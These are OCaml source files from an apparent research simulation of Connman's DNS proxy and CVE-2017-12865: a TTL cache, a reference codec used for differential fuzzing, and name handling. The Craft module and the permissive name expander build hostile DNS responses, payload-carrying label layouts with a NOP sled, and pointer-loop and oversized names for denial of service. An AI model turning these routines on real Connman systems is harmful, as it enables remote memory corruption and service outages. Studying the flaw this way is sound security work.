      evictions = 0;
      expired_sweeps = 0;
    }
  in
  { capacity; mask = nshards - 1; shards = Array.init nshards mk; next_seq = 0 }

let capacity t = t.capacity
let shard_count t = t.mask + 1
let shard_of t name = Hashtbl.hash name land t.mask
let shard_for t name = t.shards.(shard_of t name)

(* --- per-shard min-heap on (hexp, hseq) --- *)

let hkey n = (n.hexp, n.hseq)

let hswap sh i j =
  let tmp = sh.heap.(i) in
  sh.heap.(i) <- sh.heap.(j);
  sh.heap.(j) <- tmp

let rec sift_up sh i =
  if i > 0 then begin
    let parent = (i - 1) / 2 in
    if hkey sh.heap.(i) < hkey sh.heap.(parent) then begin
      hswap sh i parent;
      sift_up sh parent
    end
  end

let rec sift_down sh i =
  let l = (2 * i) + 1 and r = (2 * i) + 2 in
  let smallest = ref i in
  if l < sh.hsize && hkey sh.heap.(l) < hkey sh.heap.(!smallest) then
    smallest := l;
  if r < sh.hsize && hkey sh.heap.(r) < hkey sh.heap.(!smallest) then
    smallest := r;
  if !smallest <> i then begin
    hswap sh i !smallest;
    sift_down sh !smallest
  end

(* A node is live iff the table still maps its name to the same store. *)
let node_live sh n =
  match Hashtbl.find_opt sh.table n.hname with
  | Some e -> e.expires = n.hexp && e.seq = n.hseq
  | None -> false

let heap_pop sh =
  let top = sh.heap.(0) in
  sh.hsize <- sh.hsize - 1;
  if sh.hsize > 0 then begin
    sh.heap.(0) <- sh.heap.(sh.hsize);
    sift_down sh 0
  end;
  (* vacated slot must not pin the node (and keeps stale scans honest) *)
  sh.heap.(sh.hsize) <- hsentinel;
  top

(* Rebuild the heap from the table: one node per live entry. *)
let compact sh =
  let n = Hashtbl.length sh.table in
  let arr = Array.make (max 16 n) hsentinel in
  let i = ref 0 in
  Hashtbl.iter
    (fun name e ->
      arr.(!i) <- { hexp = e.expires; hseq = e.seq; hname = name };
      incr i)
    sh.table;
  sh.heap <- arr;
  sh.hsize <- n;
  for j = (n / 2) - 1 downto 0 do
    sift_down sh j
  done

let heap_push sh node =
  if sh.hsize > (2 * Hashtbl.length sh.table) + 8 then compact sh;
  if sh.hsize = Array.length sh.heap then begin
    let bigger = Array.make (2 * sh.hsize) hsentinel in
    Array.blit sh.heap 0 bigger 0 sh.hsize;
    sh.heap <- bigger
  end;
  sh.heap.(sh.hsize) <- node;
  sh.hsize <- sh.hsize + 1;
  sift_up sh (sh.hsize - 1)

let rec drop_stale sh =
  if sh.hsize > 0 && not (node_live sh sh.heap.(0)) then begin
    ignore (heap_pop sh);
    drop_stale sh
  end

(* Reclaim every entry past its TTL before anything live is considered
   for eviction: expired entries must never hold capacity. *)
let rec sweep_expired sh ~now =
  drop_stale sh;
  if sh.hsize > 0 && sh.heap.(0).hexp <= now then begin
    let top = heap_pop sh in
    Hashtbl.remove sh.table top.hname;
    sh.expired_sweeps <- sh.expired_sweeps + 1;
    sweep_expired sh ~now
  end

(* Evict the live entry with the earliest expiry (FIFO among equals).
   Only called after a sweep, so the root's live node is the victim. *)
let evict_one sh =
  drop_stale sh;
  if sh.hsize > 0 then begin
    let top = heap_pop sh in
    Hashtbl.remove sh.table top.hname;
    sh.evictions <- sh.evictions + 1
  end

let store t ~now ~name ~ttl ~value ~negative =
  if ttl > 0 then begin
    let sh = shard_for t name in
    sweep_expired sh ~now;
    let expires = now + ttl in
    let add seq =
      Hashtbl.replace sh.table name { value; negative; expires; seq };
      heap_push sh { hexp = expires; hseq = seq; hname = name }
    in
    if Hashtbl.mem sh.table name then begin
      sh.replacements <- sh.replacements + 1;
      let seq = t.next_seq in
      t.next_seq <- seq + 1;
      add seq
    end
    else begin
      if Hashtbl.length sh.table >= sh.cap then evict_one sh;
      if Hashtbl.length sh.table < sh.cap then begin
        sh.insertions <- sh.insertions + 1;
        let seq = t.next_seq in
        t.next_seq <- seq + 1;
        add seq
      end
    end
  end

let insert t ~now ~name ~ttl ~ipv4 =
  store t ~now ~name ~ttl ~value:ipv4 ~negative:false

let insert_negative t ~now ~name ~ttl =
  store t ~now ~name ~ttl ~value:0 ~negative:true

let find t ~now name =
  let sh = shard_for t name in
  match Hashtbl.find_opt sh.table name with
  | Some e when e.expires > now ->
      if e.negative then begin
        sh.negative_hits <- sh.negative_hits + 1;
        Negative_hit
      end
      else begin
        sh.hits <- sh.hits + 1;
        Hit e.value
      end
  | Some _ ->
      (* expired: prune the table now; the heap node goes stale *)
      Hashtbl.remove sh.table name;
      sh.misses <- sh.misses + 1;
      Miss
  | None ->
      sh.misses <- sh.misses + 1;
      Miss

let lookup t ~now name =
  match find t ~now name with Hit ip -> Some ip | Negative_hit | Miss -> None

let remove t name = Hashtbl.remove (shard_for t name).table name

let size t ~now =
  Array.fold_left
    (fun acc sh ->
      Hashtbl.fold
        (fun _ e n -> if e.expires > now then n + 1 else n)
        sh.table acc)
    0 t.shards

let flush t =
  Array.iter
    (fun sh ->
      Hashtbl.reset sh.table;
      Array.fill sh.heap 0 sh.hsize hsentinel;
      sh.hsize <- 0)
    t.shards

let stats_of_shard (sh : shard) =
  {
    hits = sh.hits;
    misses = sh.misses;
    negative_hits = sh.negative_hits;
    insertions = sh.insertions;
    replacements = sh.replacements;
    evictions = sh.evictions;
    expired_sweeps = sh.expired_sweeps;
    occupancy = Hashtbl.length sh.table;
  }

let shard_stats t = Array.map stats_of_shard t.shards

let stats t =
  Array.fold_left
    (fun acc (sh : shard) ->
      {
        hits = acc.hits + sh.hits;
        misses = acc.misses + sh.misses;
        negative_hits = acc.negative_hits + sh.negative_hits;
        insertions = acc.insertions + sh.insertions;
        replacements = acc.replacements + sh.replacements;
        evictions = acc.evictions + sh.evictions;
        expired_sweeps = acc.expired_sweeps + sh.expired_sweeps;
        occupancy = acc.occupancy + Hashtbl.length sh.table;
      })
    {
      hits = 0;
      misses = 0;
      negative_hits = 0;
      insertions = 0;
      replacements = 0;
      evictions = 0;
      expired_sweeps = 0;
      occupancy = 0;
    }
    t.shards

let pp_stats ppf s =
  Format.fprintf ppf
    "hits %d  misses %d  neg-hits %d  ins %d  repl %d  evict %d  swept %d  \
     occ %d"
    s.hits s.misses s.negative_hits s.insertions s.replacements s.evictions
    s.expired_sweeps s.occupancy

let register_metrics t reg ~prefix =
  let labels = [ ("cache", prefix) ] in
  let c name help f =
    Telemetry.Metrics.probe reg ~help ~labels ~kind:`Counter name (fun () ->
        float_of_int (f (stats t)))
  in
  c "dns_cache_hits_total" "positive cache hits" (fun s -> s.hits);
  c "dns_cache_misses_total" "cache misses" (fun s -> s.misses);
  c "dns_cache_negative_hits_total" "negative (NXDOMAIN) cache hits"
    (fun s -> s.negative_hits);
  c "dns_cache_insertions_total" "entries stored under a new name" (fun s ->
      s.insertions);
  c "dns_cache_replacements_total" "entries stored over an existing name"
    (fun s -> s.replacements);
  c "dns_cache_evictions_total" "live entries evicted to make room" (fun s ->
      s.evictions);
  c "dns_cache_expired_sweeps_total" "expired entries reclaimed by the sweep"
    (fun s -> s.expired_sweeps);
  Telemetry.Metrics.probe reg ~help:"entries currently in the tables" ~labels
    ~kind:`Gauge "dns_cache_occupancy" (fun () ->
      float_of_int (stats t).occupancy);
  Telemetry.Metrics.probe reg ~help:"configured entry capacity" ~labels
    ~kind:`Gauge "dns_cache_capacity" (fun () -> float_of_int (capacity t))
