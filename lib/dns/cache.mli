(** TTL-aware DNS cache (the state the Connman DNS proxy exists to keep).

    Names hash to shards; each shard pairs its hashtable with a
    min-expiry binary heap so eviction and expiry sweeps are O(log n)
    where the old implementation folded over the whole table.  Heap
    slots are invalidated lazily: replacing or removing an entry leaves
    its old heap node behind as a stale tombstone that is discarded the
    next time it surfaces at the root (a periodic compaction bounds the
    tombstone population).  Before a live entry is ever evicted, the
    shard sweeps entries that are already past their TTL, so dead
    entries never hold capacity against live ones.

    Negative answers (NXDOMAIN) are first-class: they occupy capacity
    and expire like positive entries but carry no address, so repeated
    lookups for a name known not to exist are absorbed by the cache.

    Time is a caller-supplied monotonic value in seconds — the
    simulation owns the clock.  Eviction order is deterministic:
    earliest expiry first, FIFO among equal expiries. *)

type t

val create : ?capacity:int -> ?shards:int -> unit -> t
(** Default capacity 256 entries (the bound covers positive and
    negative entries together).  [shards] is rounded down to a power of
    two and clamped to [1, capacity]; the default picks enough shards
    to keep each one small while never dropping a shard below ~16
    slots, so tiny caches degenerate to a single shard and behave
    exactly like the unsharded original. *)

val capacity : t -> int
val shard_count : t -> int

val shard_of : t -> string -> int
(** Which shard a name hashes to (stable for the cache's lifetime). *)

val insert : t -> now:int -> name:string -> ttl:int -> ipv4:int -> unit
(** [ttl] seconds; a 0 TTL entry is never stored.  Re-inserting a
    cached name replaces it (counted as a replacement, not an
    insertion). *)

val insert_negative : t -> now:int -> name:string -> ttl:int -> unit
(** Cache an NXDOMAIN: until [now + ttl], [find] answers
    {!Negative_hit} for [name]. *)

type outcome =
  | Hit of int  (** fresh positive entry: the IPv4 (host order) *)
  | Negative_hit  (** fresh negative entry: the name is known absent *)
  | Miss

val find : t -> now:int -> string -> outcome

val lookup : t -> now:int -> string -> int option
(** The cached IPv4 (host order) if fresh; negative entries answer
    [None] (but count as negative hits, not misses). *)

val remove : t -> string -> unit

val size : t -> now:int -> int
(** Live (unexpired) entries, positive and negative.  O(n). *)

val flush : t -> unit
(** Drop every entry; counters survive. *)

type stats = {
  hits : int;
  misses : int;
  negative_hits : int;
  insertions : int;  (** entries stored under a previously-absent name *)
  replacements : int;  (** entries stored over an existing name *)
  evictions : int;  (** live entries removed to make room *)
  expired_sweeps : int;  (** expired entries reclaimed by the sweep *)
  occupancy : int;  (** entries currently in the tables (may include
                        expired ones not yet swept) *)
}

val stats : t -> stats
(** Aggregate over all shards. *)

val shard_stats : t -> stats array
(** Per-shard counters, index = {!shard_of}. *)

val pp_stats : Format.formatter -> stats -> unit

val register_metrics : t -> Telemetry.Metrics.t -> prefix:string -> unit
(** Register pull-probes over {!stats} into the registry as
    [dns_cache_*] series labelled [{cache="<prefix>"}], so several
    caches (connmand's, dnsmasq's, a synthetic workload) can share one
    registry. *)
