type byte_spec = Fixed of char | Any

let spec_of_string s = Array.init (String.length s) (fun i -> Fixed s.[i])
let spec_fixed = spec_of_string
let spec_any n = Array.make n Any
let spec_concat specs = Array.concat specs

let default_fill = '\xAA' (* the paper's garbage byte *)

let realize spec =
  String.init (Array.length spec) (fun i ->
      match spec.(i) with Fixed c -> c | Any -> default_fill)

(* Dynamic programme over boundary positions.  [next.(p)] records the label
   length chosen at boundary [p] on some feasible path to the end. *)
let plan_labels ?(label_max = 191) spec =
  if label_max < 1 || label_max > 191 then
    invalid_arg "Craft.plan_labels: label_max must be in [1, 191]";
  let n = Array.length spec in
  if n = 0 then Ok "\x00"
  else begin
    let next = Array.make (n + 1) (-1) in
    let feasible = Array.make (n + 1) false in
    feasible.(n) <- true;
    let lengths_at p =
      (* A boundary byte is the label length: its value is forced when the
         spec fixes that byte. *)
      match spec.(p) with
      | Fixed c ->
          let l = Char.code c in
          if l >= 1 && l <= label_max then [ l ] else []
      | Any ->
          (* Prefer long labels: fewer forced bytes downstream. *)
          List.init label_max (fun i -> label_max - i)
    in
    for p = n - 1 downto 0 do
      let rec try_lengths = function
        | [] -> ()
        | l :: rest ->
            if p + 1 + l <= n && feasible.(p + 1 + l) then begin
              feasible.(p) <- true;
              next.(p) <- l
            end
            else try_lengths rest
      in
      try_lengths (lengths_at p)
    done;
    if not feasible.(0) then
      Error
        "no label layout: a run of fixed bytes leaves no room for a length \
         byte"
    else begin
      let out = Bytes.create (n + 1) in
      Array.iteri
        (fun i b ->
          Bytes.set out i (match b with Fixed c -> c | Any -> default_fill))
        spec;
      let rec place p =
        if p < n then begin
          let l = next.(p) in
          Bytes.set out p (Char.chr l);
          place (p + 1 + l)
        end
      in
      place 0;
      Bytes.set out n '\x00';
      Ok (Bytes.to_string out)
    end
  end

let dos_name ~size =
  let buf = Buffer.create (size + 64) in
  while Buffer.length buf <= size do
    Buffer.add_char buf '\x3F';
    Buffer.add_string buf (String.make 63 'A')
  done;
  Buffer.add_char buf '\x00';
  Buffer.contents buf

(* The name is a single compression pointer whose target is its own offset
   within the answer record.  [hostile_response] places the answer name at
   a fixed offset: header (12) + question; the caller of this function is
   [hostile_response] itself via lazy offset patching, so instead we emit a
   pointer to offset 12 (the question name) prefixed by a label that points
   back — simplest robust loop: pointer at message offset X targeting X. *)
let pointer_loop_placeholder = "\xC0\xFF"

let pointer_loop_name () = pointer_loop_placeholder

let hostile_response_into a ~query ?(ttl = 300) ?(rdata = "\x7F\x00\x00\x01")
    ~raw_name () =
  let q =
    match query.Packet.questions with
    | q :: _ -> q
    | [] -> invalid_arg "Craft.hostile_response: query has no question"
  in
  Wire.reset a;
  Wire.add_u16 a query.Packet.header.Packet.id;
  (* QR=1, opcode echoed, RD echoed, RA=1, rcode 0. *)
  let flags =
    (1 lsl 15)
    lor ((query.Packet.header.Packet.opcode land 0xF) lsl 11)
    lor ((if query.Packet.header.Packet.rd then 1 else 0) lsl 8)
    lor (1 lsl 7)
  in
  Wire.add_u16 a flags;
  Wire.add_u16 a 1 (* qdcount *);
  Wire.add_u16 a 1 (* ancount *);
  Wire.add_u16 a 0;
  Wire.add_u16 a 0;
  Wire.add_string a (Name.encode q.Packet.qname);
  Wire.add_u16 a (Packet.qtype_code q.Packet.qtype);
  Wire.add_u16 a 1;
  (* Answer record: attacker-controlled owner name. *)
  let name_off = Wire.length a in
  let raw_name =
    if raw_name == pointer_loop_placeholder then
      (* Self-referential pointer: 0xC0 | high bits of own offset. *)
      String.init 2 (fun i ->
          if i = 0 then Char.chr (0xC0 lor ((name_off lsr 8) land 0x3F))
          else Char.chr (name_off land 0xFF))
    else raw_name
  in
  Wire.add_string a raw_name;
  Wire.add_u16 a (Packet.qtype_code Packet.A);
  Wire.add_u16 a 1;
  Wire.add_u32 a ttl;
  Wire.add_u16 a (String.length rdata);
  Wire.add_string a rdata

let hostile_response ~query ?ttl ?rdata ~raw_name () =
  let a = Wire.arena ~capacity:256 () in
  hostile_response_into a ~query ?ttl ?rdata ~raw_name ();
  Wire.contents a
