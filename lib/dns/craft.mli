(** Crafting hostile DNS responses (the attacker's wire-format toolbox).

    The payload an exploit wants inside Connman's [name] buffer is exactly
    the length-prefixed label stream of the answer's (non-pointer) name
    bytes — so every ≤192nd payload byte is forced to be a label-length
    byte.  {!plan_labels} solves this placement problem: given a byte
    specification with fixed and don't-care positions, it chooses label
    boundaries that land only on compatible bytes (a NOP-sled byte 0x90
    doubles as the length 144, placeholder words absorb arbitrary
    lengths), producing a wire name whose vulnerable expansion is
    byte-for-byte the desired payload. *)

type byte_spec =
  | Fixed of char  (** this buffer position must hold exactly this byte *)
  | Any  (** don't-care (filler, placeholder register slot, …) *)

val plan_labels :
  ?label_max:int -> byte_spec array -> (string, string) result
(** Returns the wire-format name (terminating 0 byte included) whose
    [Name.expand_like_connman] equals the spec (don't-cares resolved).
    [label_max] defaults to 191, the largest length byte a permissive
    parser treats as a plain label; pass 63 for strictly RFC-valid labels.
    Fails if some stretch of fixed bytes longer than [label_max] leaves
    nowhere to put a boundary. *)

val spec_of_string : string -> byte_spec array
(** Every byte fixed. *)

val realize : byte_spec array -> string
(** Resolve a spec to concrete bytes with the default filler in don't-care
    positions — for carriers that deliver payload bytes verbatim (§V's
    "crafted TCP packet" class), where no label-length constraint
    applies. *)

val spec_concat : byte_spec array list -> byte_spec array
val spec_any : int -> byte_spec array
val spec_fixed : string -> byte_spec array

val dos_name : size:int -> string
(** A benign-looking giant name (wire form, terminator included) whose
    expansion exceeds [size] bytes — the denial-of-service trigger. *)

val pointer_loop_name : unit -> string
(** A name whose compression pointer points at itself: a correct decoder
    errors out; Connman 1.34's expander spins (hang DoS). *)

val hostile_response :
  query:Packet.t -> ?ttl:int -> ?rdata:string -> raw_name:string -> unit -> string
(** A complete wire message that passes Connman's pre-validation (same
    transaction id, question echoed, QR=1, one Type-A answer) but carries
    [raw_name] verbatim as the answer's owner name. *)

val hostile_response_into :
  Wire.arena ->
  query:Packet.t ->
  ?ttl:int ->
  ?rdata:string ->
  raw_name:string ->
  unit ->
  unit
(** {!hostile_response} into a caller-owned reusable arena (resets it
    first) — for attack loops that forge many responses. *)
