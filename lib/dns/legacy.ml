(* Reference codec for differential fuzzing.

   This is the pre-zero-copy implementation — [String.sub] walker,
   [Buffer] output, [Hashtbl] compression table — kept as an independent
   oracle: {!Differential} (lib/fuzz) requires {!Legacy.decode} /
   {!Legacy.encode} and the zero-copy {!Packet} to agree byte-for-byte
   on decode results, error classes, and re-encoded output over the
   exploit corpus and mutated inputs.

   The semantic bugfixes shipped with the rewrite are applied here too,
   with identical error strings, so that only *unintended* divergences
   show up: strictly-backward compression pointers, section-count
   validation, and the 65535-byte message cap. *)

type error = string

(* {1 Name decoding — old [String.sub] walker} *)

let name_decode msg off =
  let len = String.length msg in
  let byte i =
    if i < 0 || i >= len then Error "truncated name" else Ok (Char.code msg.[i])
  in
  let labels = ref [] in
  let rec go pos bound hops consumed_at_top jumped acc_len =
    if hops > len then Error "compression pointer loop"
    else
      match byte pos with
      | Error _ as e -> e
      | Ok 0 ->
          let consumed = if jumped then consumed_at_top else pos + 1 - off in
          Ok consumed
      | Ok b when b >= 0xC0 -> (
          match byte (pos + 1) with
          | Error _ as e -> e
          | Ok lo ->
              let target = ((b land 0x3F) lsl 8) lor lo in
              if target >= len then Error "pointer out of range"
              else if target >= bound then Error "forward compression pointer"
              else
                let consumed_at_top =
                  if jumped then consumed_at_top else pos + 2 - off
                in
                go target target (hops + 1) consumed_at_top true acc_len)
      | Ok b when b > 63 -> Error "invalid label length"
      | Ok b ->
          if pos + 1 + b > len then Error "truncated label"
          else begin
            labels := String.sub msg (pos + 1) b :: !labels;
            let acc_len = acc_len + 1 + b in
            if acc_len > 65536 then Error "name expansion too large"
            else go (pos + 1 + b) bound hops consumed_at_top jumped acc_len
          end
  in
  match go off off 0 0 false 0 with
  | Ok consumed -> Ok (List.rev !labels, consumed)
  | Error _ as e -> e

let name_encode labels =
  let buf = Buffer.create 32 in
  List.iter
    (fun label ->
      let n = String.length label in
      if n = 0 || n > 63 then
        invalid_arg ("Dns.Name.encode: bad label length " ^ string_of_int n);
      Buffer.add_char buf (Char.chr n);
      Buffer.add_string buf label)
    labels;
  Buffer.add_char buf '\x00';
  Buffer.contents buf

(* {1 Message decoding — old materializing decoder} *)

let ( let* ) = Result.bind

let decode msg : (Packet.t, error) result =
  let len = String.length msg in
  let u16 off =
    if off + 2 > len then Error "truncated"
    else Ok ((Char.code msg.[off] lsl 8) lor Char.code msg.[off + 1])
  in
  let u32 off =
    let* hi = u16 off in
    let* lo = u16 (off + 2) in
    Ok ((hi lsl 16) lor lo)
  in
  if len < 12 then Error "message shorter than header"
  else
    let* id = u16 0 in
    let* flags = u16 2 in
    let* qd = u16 4 in
    let* an = u16 6 in
    let* ns = u16 8 in
    let* ar = u16 10 in
    let header =
      {
        Packet.id;
        qr = (flags lsr 15) land 1 = 1;
        opcode = (flags lsr 11) land 0xF;
        aa = (flags lsr 10) land 1 = 1;
        tc = (flags lsr 9) land 1 = 1;
        rd = (flags lsr 8) land 1 = 1;
        ra = (flags lsr 7) land 1 = 1;
        rcode = Packet.rcode_of_code (flags land 0xF);
      }
    in
    let rec questions n off acc =
      if n = 0 then Ok (List.rev acc, off)
      else
        let* qname, used = name_decode msg off in
        let* qt = u16 (off + used) in
        let* _qclass = u16 (off + used + 2) in
        questions (n - 1)
          (off + used + 4)
          ({ Packet.qname; qtype = Packet.qtype_of_code qt } :: acc)
    in
    let rec rrs n off acc =
      if n = 0 then Ok (List.rev acc, off)
      else
        let* rname, used = name_decode msg off in
        let off = off + used in
        let* rt = u16 off in
        let* _class = u16 (off + 2) in
        let* ttl = u32 (off + 4) in
        let* rdlen = u16 (off + 8) in
        if off + 10 + rdlen > len then Error "truncated rdata"
        else
          let rtype = Packet.qtype_of_code rt in
          let* rdata =
            match rtype with
            | Packet.CNAME | Packet.NS | Packet.PTR ->
                let* labels, used = name_decode msg (off + 10) in
                if used > rdlen then Error "rdata name overruns rdlen"
                else Ok (name_encode labels)
            | _ -> Ok (String.sub msg (off + 10) rdlen)
          in
          rrs (n - 1)
            (off + 10 + rdlen)
            ({ Packet.rname; rtype; ttl; rdata } :: acc)
    in
    let* qs, off = questions qd 12 [] in
    let* answers, off = rrs an off [] in
    let* authorities, off = rrs ns off [] in
    let* additionals, _off = rrs ar off [] in
    Ok { Packet.header; questions = qs; answers; authorities; additionals }

(* {1 Message encoding — old [Buffer]/[Hashtbl] encoder} *)

let add_u16 buf v =
  Buffer.add_char buf (Char.chr ((v lsr 8) land 0xFF));
  Buffer.add_char buf (Char.chr (v land 0xFF))

let add_u32 buf v =
  add_u16 buf ((v lsr 16) land 0xFFFF);
  add_u16 buf (v land 0xFFFF)

let flags_word (h : Packet.header) =
  ((if h.qr then 1 else 0) lsl 15)
  lor ((h.opcode land 0xF) lsl 11)
  lor ((if h.aa then 1 else 0) lsl 10)
  lor ((if h.tc then 1 else 0) lsl 9)
  lor ((if h.rd then 1 else 0) lsl 8)
  lor ((if h.ra then 1 else 0) lsl 7)
  lor Packet.rcode_code h.rcode

let add_name buf ~compress seen labels =
  let rec go = function
    | [] -> Buffer.add_char buf '\x00'
    | _ :: rest as suffix -> (
        match if compress then Hashtbl.find_opt seen suffix else None with
        | Some off when off < 0x4000 -> add_u16 buf (0xC000 lor off)
        | _ ->
            if compress && Buffer.length buf < 0x4000 then
              Hashtbl.replace seen suffix (Buffer.length buf);
            let label = List.hd suffix in
            let n = String.length label in
            if n = 0 || n > 63 then
              invalid_arg
                ("Dns.Packet.encode: bad label length " ^ string_of_int n);
            Buffer.add_char buf (Char.chr n);
            Buffer.add_string buf label;
            go rest)
  in
  go labels

let add_question buf ~compress seen (q : Packet.question) =
  add_name buf ~compress seen q.qname;
  add_u16 buf (Packet.qtype_code q.qtype);
  add_u16 buf 1 (* IN *)

let add_rr buf ~compress seen (rr : Packet.rr) =
  add_name buf ~compress seen rr.rname;
  add_u16 buf (Packet.qtype_code rr.rtype);
  add_u16 buf 1;
  add_u32 buf rr.ttl;
  add_u16 buf (String.length rr.rdata);
  Buffer.add_string buf rr.rdata

let encode ?(compress = true) (t : Packet.t) =
  Packet.validate_counts t;
  let buf = Buffer.create 128 in
  let seen = Hashtbl.create 8 in
  add_u16 buf t.header.id;
  add_u16 buf (flags_word t.header);
  add_u16 buf (List.length t.questions);
  add_u16 buf (List.length t.answers);
  add_u16 buf (List.length t.authorities);
  add_u16 buf (List.length t.additionals);
  List.iter (add_question buf ~compress seen) t.questions;
  List.iter (add_rr buf ~compress seen) t.answers;
  List.iter (add_rr buf ~compress seen) t.authorities;
  List.iter (add_rr buf ~compress seen) t.additionals;
  if Buffer.length buf > 0xFFFF then
    invalid_arg "Dns.Packet.encode: message exceeds 65535 bytes";
  Buffer.contents buf
