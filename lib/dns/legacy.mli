(** Reference codec for differential fuzzing.

    The pre-zero-copy implementation ([String.sub] walker, [Buffer]
    output, [Hashtbl] compression table), kept as an independent oracle
    against which the zero-copy {!Wire}/{!Packet} codec is checked: both
    must agree byte-for-byte on decode results, error classes, and
    re-encoded output.  The semantic bugfixes that shipped with the
    rewrite (strictly-backward pointers, count validation, 65535-byte
    cap) are applied here too, with identical error strings, so the
    differential only flags {e unintended} divergences. *)

type error = string

val name_decode : string -> int -> (Name.t * int, error) result
(** Old-style strict name decode (with the backward-pointer rule). *)

val decode : string -> (Packet.t, error) result
(** Old-style materializing decode; must accept exactly what
    {!Packet.decode} accepts, with identical error strings. *)

val encode : ?compress:bool -> Packet.t -> string
(** Old-style [Buffer]/[Hashtbl] encode; must produce exactly the bytes
    {!Packet.encode} produces, and raise [Invalid_argument] with
    identical messages on the same inputs. *)
