type t = string list

(* Construction is total over its stated domain: anything accepted here
   encodes, and [to_string] round-trips it.  Silently dropping empty
   labels ("a..b" -> ["a"; "b"]) or letting a 200-byte label through
   only to explode later inside [encode] made malformed input
   indistinguishable from a clean name until far from its source. *)
let of_string s =
  match s with
  | "" | "." -> []
  | s ->
      (* A single trailing dot is the standard fully-qualified spelling;
         strip it before splitting so "a.b." parses like "a.b". *)
      let n = String.length s in
      let s = if s.[n - 1] = '.' then String.sub s 0 (n - 1) else s in
      let labels = String.split_on_char '.' s in
      List.iter
        (fun l ->
          if l = "" then
            invalid_arg ("Dns.Name.of_string: empty label in " ^ Printf.sprintf "%S" s);
          if String.length l > 63 then
            invalid_arg
              ("Dns.Name.of_string: label exceeds 63 bytes: " ^ Printf.sprintf "%S" l))
        labels;
      labels

let of_string_opt s = try Some (of_string s) with Invalid_argument _ -> None

let to_string = function [] -> "." | labels -> String.concat "." labels

let valid labels =
  List.for_all (fun l -> String.length l >= 1 && String.length l <= 63) labels
  && List.fold_left (fun acc l -> acc + 1 + String.length l) 1 labels <= 255

let encode labels =
  let buf = Buffer.create 32 in
  List.iter
    (fun label ->
      let n = String.length label in
      if n = 0 || n > 63 then
        invalid_arg ("Dns.Name.encode: bad label length " ^ string_of_int n);
      Buffer.add_char buf (Char.chr n);
      Buffer.add_string buf label)
    labels;
  Buffer.add_char buf '\x00';
  Buffer.contents buf

(* Shared walker for decode/expand: [emit] receives each label's raw bytes
   (and, for the vulnerable variant, its length byte).  Pointer loops are
   detected by bounding the number of pointer hops by the message size.

   Strict mode additionally requires every compression pointer to point
   strictly backward ([bound] starts at the name's own offset and drops
   to each pointer's target after a jump), as real resolvers do —
   forward and self-referential pointers only ever appear in attack
   traffic.  The permissive walk is untouched: the Listing-1 exploit
   depends on Connman-style forward/self pointers, and the exploit
   matrix pins {!expand_like_connman} byte-for-byte. *)
let walk msg off ~permissive ~emit =
  let len = String.length msg in
  let byte i =
    if i < 0 || i >= len then Error "truncated name" else Ok (Char.code msg.[i])
  in
  let rec go pos bound hops consumed_at_top jumped acc_len =
    if hops > len then Error "compression pointer loop"
    else
      match byte pos with
      | Error _ as e -> e
      | Ok 0 ->
          let consumed = if jumped then consumed_at_top else pos + 1 - off in
          Ok consumed
      | Ok b when b >= 0xC0 -> (
          match byte (pos + 1) with
          | Error _ as e -> e
          | Ok lo ->
              let target = ((b land 0x3F) lsl 8) lor lo in
              if target >= len then Error "pointer out of range"
              else if (not permissive) && target >= bound then
                Error "forward compression pointer"
              else
                let consumed_at_top =
                  if jumped then consumed_at_top else pos + 2 - off
                in
                go target target (hops + 1) consumed_at_top true acc_len)
      | Ok b when b > 63 && not permissive -> Error "invalid label length"
      | Ok b ->
          if pos + 1 + b > len then Error "truncated label"
          else begin
            emit b (String.sub msg (pos + 1) b);
            let acc_len = acc_len + 1 + b in
            if acc_len > 65536 then Error "name expansion too large"
            else
              go (pos + 1 + b) bound hops consumed_at_top jumped acc_len
          end
  in
  go off off 0 0 false 0

let decode msg off =
  let labels = ref [] in
  match walk msg off ~permissive:false ~emit:(fun _ l -> labels := l :: !labels) with
  | Ok consumed -> Ok (List.rev !labels, consumed)
  | Error e -> Error e

let expand msg off =
  match decode msg off with
  | Ok (labels, consumed) -> Ok (to_string labels, consumed)
  | Error e -> Error e

let expand_like_connman ?(limit = 65536) msg off =
  let buf = Buffer.create 64 in
  let overrun = ref false in
  let emit len label =
    if Buffer.length buf < limit then begin
      Buffer.add_char buf (Char.chr len);
      Buffer.add_string buf label
    end
    else overrun := true
  in
  match walk msg off ~permissive:true ~emit with
  | Ok consumed ->
      if !overrun then Error "expansion exceeds simulation limit"
      else Ok (Buffer.contents buf, consumed)
  | Error e -> Error e
