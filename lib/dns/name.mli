(** DNS domain names on the wire (RFC 1035 §3.1, §4.1.4).

    A name is a sequence of length-prefixed labels terminated by a zero
    byte; a length byte with the top two bits set (>= 0xC0) is a
    compression pointer to an earlier offset in the message.

    {!expand} mirrors what a *correct* decompressor does.
    {!expand_like_connman} mirrors what Connman 1.34's [get_name] writes
    into its 1024-byte stack buffer — the exact length-prefixed byte
    stream, with no output bound — so the exploit builder can predict
    buffer contents byte-for-byte. *)

type t = string list
(** Labels, e.g. [["www"; "example"; "com"]].  The root name is []. *)

val of_string : string -> t
(** Split on dots; ["."] and [""] give the root name, and a single
    trailing dot (the fully-qualified spelling) is stripped.  Raises
    [Invalid_argument] on empty labels (consecutive or leading dots) and
    on labels longer than 63 bytes — construction is total over its
    stated domain instead of minting names that only explode later
    inside {!encode}. *)

val of_string_opt : string -> t option
(** {!of_string} returning [None] instead of raising. *)

val to_string : t -> string

val valid : t -> bool
(** RFC limits: each label 1–63 bytes, total encoding ≤ 255. *)

val encode : t -> string
(** Uncompressed wire form (length-prefixed labels + terminating 0).
    Raises [Invalid_argument] if a label exceeds 63 bytes. *)

val decode : string -> int -> (t * int, string) result
(** [decode msg off] reads a (possibly compressed) name at [off] inside
    the full message [msg].  Returns the labels and the number of bytes
    consumed at [off] (a pointer consumes 2).  Errors on truncation,
    pointer loops, out-of-range pointers, and — as real resolvers
    require — compression pointers that do not point strictly backward
    (forward and self-referential pointers are attack traffic; only the
    permissive {!expand_like_connman} walk accepts them). *)

val expand : string -> int -> (string * int, string) result
(** Like {!decode} but returns the dotted string. *)

val expand_like_connman :
  ?limit:int -> string -> int -> (string * int, string) result
(** The vulnerable expansion: returns the raw length-prefixed byte stream
    [get_name] copies (terminator excluded) and the bytes consumed at the
    starting position.  Labels with length 64–191 — invalid per RFC — are
    accepted and copied verbatim, as permissive parsers do.  [limit]
    (default 65536) only bounds the simulation itself; the real buffer
    bound that is missing in CVE-2017-12865 is *not* applied here. *)
