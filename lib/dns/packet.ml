type qtype = A | AAAA | CNAME | NS | PTR | MX | TXT | Unknown of int

let qtype_code = function
  | A -> 1
  | NS -> 2
  | CNAME -> 5
  | PTR -> 12
  | MX -> 15
  | TXT -> 16
